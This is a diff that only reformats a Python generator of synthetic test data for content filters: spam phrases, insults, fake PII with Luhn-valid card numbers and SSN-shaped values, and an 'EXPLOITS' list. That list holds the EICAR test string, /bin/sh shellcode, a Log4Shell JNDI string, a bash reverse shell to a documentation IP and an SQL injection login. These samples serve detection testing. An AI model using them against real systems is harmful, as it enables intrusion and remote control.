@@ -48,8 +48,16 @@ SPANISH = [
 FOREIGN = {"de": GERMAN, "fr": FRENCH, "es": SPANISH}
 
 SPAM_PHRASES = [
-    "cheap watches", "best price guaranteed", "buy now", "free shipping", "limited offer",
-    "replica handbags", "casino bonus", "click here", "hot deals", "discount pills",
+    "cheap watches",
+    "best price guaranteed",
+    "buy now",
+    "free shipping",
+    "limited offer",
+    "replica handbags",
+    "casino bonus",
+    "click here",
+    "hot deals",
+    "discount pills",
 ]
 MENU_ITEMS = ["Home", "Products", "Pricing", "Blog", "Docs", "Support", "About us", "Careers", "Contact", "Login"]
 INSULTS = ["idiot", "moron", "loser", "scumbag", "worthless", "pathetic", "dumbass", "jackass"]
@@ -69,14 +77,24 @@ NEUTRAL_TEMPLATES = [
     "The meeting about the {x} is moved to Thursday afternoon.",
     "Our team reviewed the {x} and found two small issues.",
 ]
-NEUTRAL_TOPICS = ["parser", "build script", "garden layout", "budget report", "train schedule", "database index",
-                  "recipe", "bicycle repair", "museum guide", "library catalogue"]
+NEUTRAL_TOPICS = [
+    "parser",
+    "build script",
+    "garden layout",
+    "budget report",
+    "train schedule",
+    "database index",
+    "recipe",
+    "bicycle repair",
+    "museum guide",
+    "library catalogue",
+]
 
 EICAR = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
 EXPLOITS = [
     f"Save this line as a file to test your scanner: {EICAR}",
-    "payload = \"" + "\\x90" * 16 + "\\x31\\xc0\\x50\\x68\\x2f\\x2f\\x73\\x68\\x68\\x2f\\x62\\x69\\x6e\\x89\\xe3"
-    "\\x50\\x53\\x89\\xe1\\xb0\\x0b\\xcd\\x80" * 2 + "\"",
+    'payload = "' + "\\x90" * 16 + "\\x31\\xc0\\x50\\x68\\x2f\\x2f\\x73\\x68\\x68\\x2f\\x62\\x69\\x6e\\x89\\xe3"
+    "\\x50\\x53\\x89\\xe1\\xb0\\x0b\\xcd\\x80" * 2 + '"',
     "Send the header User-Agent: ${jndi:ldap://203.0.113.7:1389/Exploit} to every endpoint.",
     "Run: bash -i >& /dev/tcp/198.51.100.3/4444 0>&1 and wait for the shell.",
     "Login with username admin' OR '1'='1' -- and any password.",
@@ -101,8 +119,9 @@ def menu_page(rng: random.Random) -> str:
 
 
 def toxic_text(rng: random.Random, n_sentences: int = 6) -> str:
-    return " ".join(rng.choice(TOXIC_TEMPLATES).format(a=rng.choice(INSULTS), b=rng.choice(INSULTS))
-                    for _ in range(n_sentences))
+    return " ".join(
+        rng.choice(TOXIC_TEMPLATES).format(a=rng.choice(INSULTS), b=rng.choice(INSULTS)) for _ in range(n_sentences)
+    )
 
 
 def neutral_text(rng: random.Random, n_sentences: int = 6) -> str:
@@ -116,16 +135,18 @@ def valid_card(rng: random.Random) -> str:
     body = "4" + "".join(str(rng.randint(0, 9)) for _ in range(14))
     check = next(str(d) for d in range(10) if luhn_valid(body + str(d)))
     number = body + check
-    return " ".join(number[i:i + 4] for i in range(0, 16, 4))
+    return " ".join(number[i : i + 4] for i in range(0, 16, 4))
 
 
 def pii_paragraph(rng: random.Random) -> str:
     user = rng.choice(["jane.doe", "m.rossi", "k.tanaka", "admin", "sales"])
-    return (f"For questions write to {user}{rng.randint(1, 99)}@example.org or call "
-            f"+1 415-555-{rng.randint(1000, 9999)}. Payment was made with card {valid_card(rng)} "
-            f"from address 203.0.113.{rng.randint(1, 254)}, and the customer's SSN is "
-            f"{rng.randint(100, 665)}-{rng.randint(10, 99)}-{rng.randint(1000, 9999)}. "
-            f"The order reference 1234 5678 9012 3456 is not a card number.")
+    return (
+        f"For questions write to {user}{rng.randint(1, 99)}@example.org or call "
+        f"+1 415-555-{rng.randint(1000, 9999)}. Payment was made with card {valid_card(rng)} "
+        f"from address 203.0.113.{rng.randint(1, 254)}, and the customer's SSN is "
+        f"{rng.randint(100, 665)}-{rng.randint(10, 99)}-{rng.randint(1000, 9999)}. "
+        f"The order reference 1234 5678 9012 3456 is not a card number."
+    )
 
 
 def perturb_words(text: str, rng: random.Random, n_changes: int = 3) -> str:
